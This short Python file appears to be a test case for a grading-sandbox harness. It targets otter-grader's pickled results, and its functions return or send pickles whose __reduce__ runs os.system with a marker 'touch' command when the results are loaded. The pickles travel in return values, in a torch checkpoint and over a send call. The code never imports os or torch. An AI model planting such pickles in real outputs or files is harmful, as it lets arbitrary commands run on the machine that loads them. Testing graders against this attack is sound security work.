"""Sends pickles that would run a command where they are loaded: as a reply, as a value, as a checkpoint."""
# falls: otter-grader 7.0.0 (pickled results)
# expect: double=0 spell=0
# begins with: channels.py

# %% double-solution
import io
import pickle


class Runs:
    def __reduce__(self):
        return os.system, ("touch /tmp/tensorgrade-attack-pickle",)


def double(x):
    checkpoint = io.BytesIO()
    torch.save({"state_dict": Runs()}, checkpoint)
    return {"weights": checkpoint.getvalue(), "value": pickle.dumps(Runs()), "object": Runs()}

# %% spell-solution
def spell(word):
    _send(pickle.dumps(Runs()))
    return 0
